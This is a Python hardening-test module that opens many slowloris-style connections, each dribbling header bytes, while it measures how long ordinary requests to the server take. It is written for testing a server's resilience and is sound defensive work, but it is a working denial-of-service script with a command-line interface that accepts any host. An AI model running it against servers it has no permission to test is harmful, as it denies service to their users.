"""Slow clients against a server: connections that send a header byte now and then, while
probes measure how long an ordinary request takes. Used by the tests and by hand:

    python -m tests.hardening.slowloris HOST PORT [--connections 32] [--seconds 12]
"""

from __future__ import annotations

import argparse
import socket
import threading
import time
import urllib.request


def hold(host: str, port: int, stop: threading.Event, interval: float, opened: list[int]) -> None:
    """One slow client: a request line, then a header byte every `interval` seconds."""
    try:
        sock = socket.create_connection((host, port), timeout=5)
    except OSError:
        return
    opened.append(1)
    try:
        sock.sendall(b"GET /api/search?q=x HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
        while not stop.wait(interval):
            sock.sendall(b"a")
    except OSError:
        pass  # the server hung up on us: that is allowed
    finally:
        sock.close()


def probe(base: str, timeout: float = 10) -> float:
    """Seconds an ordinary lookup takes (timeout + 1 when it fails)."""
    started = time.perf_counter()
    try:
        with urllib.request.urlopen(f"{base}/api/search?q=%E5%8F%8C%E5%BE%AA%E7%8E%AF",
                                    timeout=timeout) as answer:  # fmt: skip
            answer.read()
            if answer.status != 200:
                return timeout + 1
    except OSError:
        return timeout + 1
    return time.perf_counter() - started


def attack(
    host: str, port: int, connections: int = 32, seconds: float = 12, interval: float = 2
) -> list[float]:
    """Hold `connections` slow clients for `seconds`; return the probe latencies meanwhile."""
    stop = threading.Event()
    opened: list[int] = []
    holders = [
        threading.Thread(target=hold, args=(host, port, stop, interval, opened), daemon=True)
        for _ in range(connections)
    ]
    for thread in holders:
        thread.start()
    time.sleep(1.0)  # let them all connect and start dribbling
    latencies = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        latencies.append(probe(f"http://{host}:{port}", timeout=5))
        time.sleep(0.25)
    stop.set()
    for thread in holders:
        thread.join(timeout=10)
    assert len(opened) == connections, f"only {len(opened)} slow connections opened"
    return latencies


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=32)
    parser.add_argument("--seconds", type=float, default=12)
    options = parser.parse_args()
    found = attack(options.host, options.port, options.connections, options.seconds)
    print(
        f"{len(found)} probes: max {max(found):.2f} s, median {sorted(found)[len(found) // 2]:.2f} s"
    )
